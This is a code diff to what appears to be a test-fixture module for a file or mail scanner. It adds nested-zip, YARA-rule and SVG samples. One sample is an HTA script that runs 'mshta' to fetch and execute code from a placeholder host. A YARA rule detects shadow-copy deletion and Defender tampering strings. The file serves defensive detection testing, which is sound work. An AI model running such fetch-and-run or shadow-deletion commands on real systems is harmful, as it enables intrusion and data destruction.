@@ -1,4 +1,4 @@
-import { type Entry, files, sampleFiles } from '../entry.ts'
+import { type Entry, files, sampleFiles, word } from '../entry.ts'
 import { free, lures, mail } from './lure-letters.ts'
 import { letter } from './mime.ts'
 import { zip } from './zip.ts'
@@ -67,16 +67,34 @@ export const moreLetters = (): Entry[] => [
       },
     ],
   ]),
-  ...sampleFiles('archive', 'a script in archives in an archive', /^(?:archive|script|page|yara)\./, [
+  ...sampleFiles(
+    'archive',
+    'a script in archives in an archive',
+    /^(?:archive|script|page|yara)\./,
     [
-      'deep.zip',
-      zip({
-        'a.zip': zip({
-          'b.zip': zip({
-            'c.hta': '<script>new ActiveXObject("WScript.Shell").Run("mshta http://files.example/x")</script>',
+      [
+        'deep.zip',
+        zip({
+          'a.zip': zip({
+            'b.zip': zip({
+              'c.hta':
+                '<script>new ActiveXObject("WScript.Shell").Run("mshta http://files.example/x")</script>',
+            }),
           }),
         }),
-      }),
+      ],
+    ],
+  ),
+  ...files('text', 'rules', [
+    [
+      'hunting.yar',
+      `rule deletes_copies {\n  strings:\n    $a = "${word('vss', 'admin')} delete shadows" nocase\n    $b = "Set-MpPreference" nocase\n  condition:\n    any of them\n}\n`,
+    ],
+  ]),
+  ...files('picture', 'charts with a script', [
+    [
+      'flame.svg',
+      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script type="text/ecmascript"><![CDATA[function init(evt){var d=document.getElementById("details");d.firstChild.nodeValue="all"}]]></script><rect width="9" height="9"/></svg>',
     ],
   ]),
   ...files('mail', 'letters: Italian, Portuguese, Dutch', [
